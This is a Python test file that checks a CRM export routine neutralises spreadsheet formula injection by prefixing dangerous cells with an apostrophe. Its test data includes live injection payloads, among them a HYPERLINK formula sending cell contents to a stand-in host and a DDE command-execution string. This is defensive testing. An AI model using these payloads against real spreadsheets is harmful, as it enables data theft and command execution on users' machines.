"""Exports never hand a spreadsheet a formula written into a CRM field (issue 18)."""

import polars as pl
import pytest

from domain.spreadsheet_safe import neutralise_formulas, spreadsheet_csv


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(text):
    out = neutralise_formulas(pl.DataFrame({"name": [text]}))
    assert out["name"].to_list() == ["'" + text]


def test_plain_text_numbers_dates_and_empty_cells_are_untouched():
    frame = pl.DataFrame({"name": ["Acme = good", "a-b", None], "amount": [-17500.0, 1.0, None], "n": [-1, 0, 1]})
    assert neutralise_formulas(frame).equals(frame)
    assert spreadsheet_csv(frame).splitlines()[1] == "Acme = good,-17500.0,-1"
